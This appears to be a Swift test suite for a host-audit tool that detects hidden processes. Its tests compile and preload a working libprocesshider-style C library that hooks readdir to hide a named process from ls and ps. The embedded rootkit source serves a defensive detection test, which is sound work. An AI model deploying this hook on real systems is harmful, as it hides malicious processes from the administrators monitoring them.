import Foundation
import HostAuditCore
import HostAuditLinux
import HostAuditTestSupport
import Testing

/// A libprocesshider-style library (gianlucaborello/libprocesshider): hooks
/// libc `readdir`/`readdir64` and skips the /proc entry of a process named
/// `ha_hiddenproc`.
let processHiderSource = #"""
    #define _GNU_SOURCE
    #include <dirent.h>
    #include <dlfcn.h>
    #include <stdio.h>
    #include <string.h>
    #include <unistd.h>
    static const char *process_to_filter = "ha_hiddenproc";
    static int get_dir_name(DIR *dirp, char *buf, size_t size) {
        int fd = dirfd(dirp);
        if (fd == -1) return 0;
        char tmp[64];
        snprintf(tmp, sizeof(tmp), "/proc/self/fd/%d", fd);
        ssize_t ret = readlink(tmp, buf, size - 1);
        if (ret == -1) return 0;
        buf[ret] = 0;
        return 1;
    }
    static int get_process_name(const char *pid, char *buf) {
        if (strspn(pid, "0123456789") != strlen(pid)) return 0;
        char tmp[256];
        snprintf(tmp, sizeof(tmp), "/proc/%s/stat", pid);
        FILE *f = fopen(tmp, "r");
        if (f == NULL) return 0;
        if (fgets(tmp, sizeof(tmp), f) == NULL) { fclose(f); return 0; }
        fclose(f);
        int unused;
        sscanf(tmp, "%d (%255[^)]s", &unused, buf);
        return 1;
    }
    #define DECLARE_READDIR(dirent, readdir)                                          \
    static struct dirent *(*original_##readdir)(DIR *) = NULL;                        \
    struct dirent *readdir(DIR *dirp) {                                               \
        if (original_##readdir == NULL) original_##readdir = dlsym(RTLD_NEXT, #readdir); \
        struct dirent *dir;                                                           \
        while (1) {                                                                   \
            dir = original_##readdir(dirp);                                           \
            if (dir) {                                                                \
                char dir_name[256], process_name[256];                                \
                if (get_dir_name(dirp, dir_name, sizeof(dir_name)) &&                 \
                    strcmp(dir_name, "/proc") == 0 &&                                 \
                    get_process_name(dir->d_name, process_name) &&                    \
                    strcmp(process_name, process_to_filter) == 0) continue;           \
            }                                                                         \
            break;                                                                    \
        }                                                                             \
        return dir;                                                                   \
    }
    DECLARE_READDIR(dirent64, readdir64);
    DECLARE_READDIR(dirent, readdir);
    """#

@Suite(.privileged, .serialized) struct HiddenProcessTests {
    @Test func readdirHookDoesNotHideFromGetdentsOrTheSweep() throws {
        let t = try TestProcesses("hider")
        defer { t.stopAll() }
        let src = t.dir + "/processhider.c"
        let lib = t.dir + "/libprocesshider.so"
        try processHiderSource.write(toFile: src, atomically: true, encoding: .utf8)
        try CommandRunner.check(["cc", "-Wall", "-fPIC", "-shared", "-o", lib, src, "-ldl"])
        let exe = t.dir + "/ha_hiddenproc"
        try Fixtures.copyExecutable("/bin/sleep", to: exe)
        let pid = try t.start(exe, ["60"])
        try t.waitFor(pid) { $0.starts(with: Array(exe.utf8)) }

        // The hook works: ls and ps under the preload do not see the process; without it they do.
        let plainLs = try CommandRunner.check(["ls", "/proc"]).stdout.split(separator: "\n").map(String.init)
        #expect(plainLs.contains(String(pid)))
        var env = ProcessInfo.processInfo.environment
        env["LD_PRELOAD"] = lib
        let hookedLs = try CommandRunner.run(["ls", "/proc"], environment: env)
        #expect(hookedLs.status == 0)
        let hookedNames = hookedLs.stdout.split(separator: "\n").map(String.init)
        #expect(!hookedNames.contains(String(pid)), "the preload library hides pid \(pid) from ls")
        let hookedPs = try CommandRunner.run(["ps", "-e", "-o", "pid=,comm="], environment: env)
        #expect(!hookedPs.stdout.contains("ha_hiddenproc"), "and from ps")
        #expect(try CommandRunner.check(["ps", "-e", "-o", "pid=,comm="]).stdout.contains("ha_hiddenproc"))

        // hostaudit under the same preload: getdents64 still lists it.
        let r = try HostAuditCLI.run(
            ["facts", "processes", "--format", "json", "--cpu-interval", "0"], environment: ["LD_PRELOAD": lib])
        #expect(r.status == 0, "\(r.stderr)")
        let doc = try LiveScan.json(r)
        let entry = LiveScan.list(doc).first { ($0["pid"] as? Int) == Int(pid) }
        #expect(entry?["comm"] as? String == "ha_hiddenproc")
        let sweep = (doc["processes"] as? [String: Any])?["hidden_sweep"] as? [String: Any]
        #expect((sweep?["hidden"] as? [Any])?.isEmpty == true, "listed by getdents64, so not hidden")

        // The sweep against the hooked libc listing (what `ls /proc` saw) finds it.
        let libcView = hookedNames.compactMap { Int32($0) }
        let hiddenFromLibc = try HiddenProcessSweep(lister: { libcView }).run()
        #expect(hiddenFromLibc.hidden.map(\.pid).contains(pid), "\(hiddenFromLibc.hidden)")
        let h = hiddenFromLibc.hidden.first { $0.pid == pid }
        #expect(h?.comm == "ha_hiddenproc")
        #expect(h?.seenBy.contains("getsid") == true && h?.seenBy.contains("stat-proc-path") == true)
    }

    @Test func sweepExcludesThreadsAndRaces() throws {
        // python3 with extra threads: their tids answer kill(tid, 0) but are not in the listing.
        let t = try TestProcesses("threads")
        defer { t.stopAll() }
        let pid = try t.start(
            "/usr/bin/python3",
            ["-c", "import threading,time\nfor _ in range(4): threading.Thread(target=time.sleep, args=(60,), daemon=True).start()\ntime.sleep(60)"])
        let deadline = Date().addingTimeInterval(10)
        while Date() < deadline,
            ((try? FileManager.default.contentsOfDirectory(atPath: "/proc/\(pid)/task"))?.count ?? 0) < 5
        {
            usleep(20_000)
        }
        let s = try HiddenProcessSweep().run()
        #expect(s.hidden.isEmpty, "\(s.hidden)")
        #expect(s.alive >= s.listed - 5)
        #expect(s.pidMax > 0 && s.durationMs >= 0)
    }
}

/// The hidden-pid comparison itself, without root: a lister that drops one of our
/// own children simulates a getdents hook.
@Suite struct HiddenSweepLogicTests {
    @Test func droppedPidIsReportedHiddenOnlyWhileAlive() throws {
        let t = try TestProcesses("sweeplogic")
        defer { t.stopAll() }
        let pid = try t.start("/bin/sleep", ["60"])
        try t.waitFor(pid) { !$0.isEmpty }
        let procfs = Procfs()
        let lister: @Sendable () throws(ProbeError) -> [Int32] = { () throws(ProbeError) in
            try procfs.listPids().filter { $0 != pid }
        }
        let s = try HiddenProcessSweep(lister: lister).run()
        #expect(s.hidden.map(\.pid) == [pid])
        #expect(s.hidden.first?.comm == "sleep")
        t.stopAll()
        let after = try HiddenProcessSweep(lister: lister).run()
        #expect(after.hidden.isEmpty, "an exited pid is not hidden")
    }

    @Test func pidMaxOverride() throws {
        let s = try HiddenProcessSweep(pidMax: 2).run()
        #expect(s.pidMax == 2 && s.alive <= 1)
    }
}
